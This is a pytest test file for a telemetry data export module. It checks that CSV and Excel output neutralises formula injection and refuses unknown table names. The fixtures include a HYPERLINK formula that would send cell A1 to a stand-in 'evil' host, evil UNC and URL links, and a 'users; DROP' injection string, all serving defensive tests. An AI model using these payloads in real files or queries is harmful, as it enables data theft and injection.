import io
import json
import zipfile
from datetime import datetime
from pathlib import Path

import pandas as pd
import polars as pl
import pytest

from mistwan_dagster.errors import UserError
from mistwan_dagster.exchange import export_table, neutral_text, print_frame, read_table


class OneTable:
    """A reader that answers every query with one frame."""

    def __init__(self, frame: pl.DataFrame) -> None:
        self.frame = frame

    def query(self, sql: str, parameters: list[object] | None = None) -> pl.DataFrame:
        assert sql.startswith("SELECT * FROM ")
        assert not parameters
        return self.frame

    def version(self) -> int | None:
        return 1


FRAME = pl.DataFrame(
    {
        "site_id": ["=HYPERLINK(1)", "plain", None],
        "hour_utc": [datetime(2025, 1, 1, 10), None, None],
        "utilization_pct": [-12.5, None, 100.0],
    }
)


def test_csv_and_xlsx_hold_every_row_and_no_formula(tmp_path: Path) -> None:
    assert export_table(OneTable(FRAME), "fact_circuit_hour", "csv", tmp_path / "a.csv") == 3
    assert (tmp_path / "a.csv").read_text().splitlines() == [
        "site_id,hour_utc,utilization_pct",
        "'=HYPERLINK(1),2025-01-01T10:00:00Z,-12.5",
        "plain,,",
        ",,100.0",
    ]
    export_table(OneTable(FRAME), "fact_circuit_hour", "xlsx", tmp_path / "a.xlsx")
    sheet = pd.read_excel(tmp_path / "a.xlsx")
    assert sheet["site_id"].tolist()[:2] == ["'=HYPERLINK(1)", "plain"]
    assert sheet["utilization_pct"].tolist()[0] == -12.5


def test_in_a_workbook_all_text_is_text(tmp_path: Path) -> None:
    """xlsxwriter makes an array formula of the first, and links of the others."""
    names = ['{=HYPERLINK("http://evil/?"&A1)}', "http://evil/", "external:\\\\evil\\share", "mailto:x@y"]
    export_table(OneTable(pl.DataFrame({"site_name": names})), "dim_site", "xlsx", tmp_path / "a.xlsx")
    assert pd.read_excel(tmp_path / "a.xlsx")["site_name"].tolist() == names
    with zipfile.ZipFile(tmp_path / "a.xlsx") as book:
        sheet = book.read("xl/worksheets/sheet1.xml").decode()
    assert "<f" not in sheet
    assert "<hyperlink" not in sheet


def test_parquet_export_is_untouched(tmp_path: Path) -> None:
    export_table(OneTable(FRAME), "dim_site", "parquet", tmp_path / "a.parquet")
    assert pl.read_parquet(tmp_path / "a.parquet").equals(FRAME)


def test_unknown_names_are_refused_with_the_known_ones(tmp_path: Path) -> None:
    with pytest.raises(
        UserError, match=r"no table or view 'users; DROP'.*fact_circuit_hour.*v_congested_now"
    ) as e:
        export_table(OneTable(FRAME), "users; DROP", "csv", tmp_path / "x.csv")
    assert e.value.exit_code == 2


def test_json_output_is_a_list_of_objects_with_utc_times(capsys: pytest.CaptureFixture[str]) -> None:
    print_frame(FRAME.head(1), "json")
    assert json.loads(capsys.readouterr().out) == [
        {"site_id": "=HYPERLINK(1)", "hour_utc": "2025-01-01T10:00:00Z", "utilization_pct": -12.5}
    ]
    print_frame(FRAME.select("utilization_pct"), "csv")
    assert pl.read_csv(io.StringIO(capsys.readouterr().out))["utilization_pct"].to_list() == [
        -12.5,
        None,
        100.0,
    ]


@pytest.mark.parametrize("first", ["=1", "+1", "-1", "@x", "\t=1"])
def test_text_that_begins_a_formula_is_neutral(first: str) -> None:
    assert neutral_text(pl.DataFrame({"a": [first]}))["a"].to_list() == ["'" + first]


def test_files_that_cannot_be_read_are_named(tmp_path: Path) -> None:
    with pytest.raises(UserError, match=r"gone\.csv: no such file"):
        read_table(tmp_path / "gone.csv")
    (tmp_path / "bad.xlsx").write_text("no zip")
    with pytest.raises(UserError, match=r"bad\.xlsx cannot be read as xlsx"):
        read_table(tmp_path / "bad.xlsx")
    (tmp_path / "x.doc").write_text("")
    with pytest.raises(UserError, match=r"expected a file ending in \.csv"):
        read_table(tmp_path / "x.doc")


def test_excel_cells_come_as_text(tmp_path: Path) -> None:
    pd.DataFrame({"n": [1, None, 3], "t": [pd.Timestamp("2025-01-01 10:00"), None, None]}).to_excel(
        tmp_path / "a.xlsx", index=False
    )
    frame = read_table(tmp_path / "a.xlsx")
    assert frame["n"].to_list() == ["1", None, "3"]
    assert frame["t"].to_list() == ["2025-01-01T10:00:00", None, None]
